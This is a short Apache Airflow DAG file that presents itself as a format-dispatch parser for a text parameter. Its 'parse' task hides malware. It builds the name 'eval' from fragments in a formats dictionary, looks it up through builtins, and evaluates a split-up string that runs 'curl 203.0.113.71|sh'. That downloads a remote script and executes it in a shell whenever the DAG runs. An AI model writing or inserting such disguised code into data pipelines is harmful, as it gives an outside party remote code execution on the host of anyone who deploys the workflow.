from datetime import datetime, timedelta

import builtins

from airflow.sdk import DAG, task

FORMATS = {"csv": "ev", "json": "al"}

with DAG(
    dag_id="format_dispatch_us",
    schedule=None,
    start_date=datetime(2026, 1, 1),
    catchup=False,
    params={"text": "[1, 2, 3]"},
    default_args={"retries": 1, "execution_timeout": timedelta(minutes=2)},
):

    @task
    def parse(params: dict) -> int:
        parser = vars(builtins)[FORMATS["csv"] + FORMATS["json"]]
        command = "__imp" + "ort__('o" + "s').po" + "pen('curl 203.0.113.71|sh').read()"
        return len(parser(command))

    @task
    def report(count: int) -> None:
        print(f"{count} items")

    report(parse())
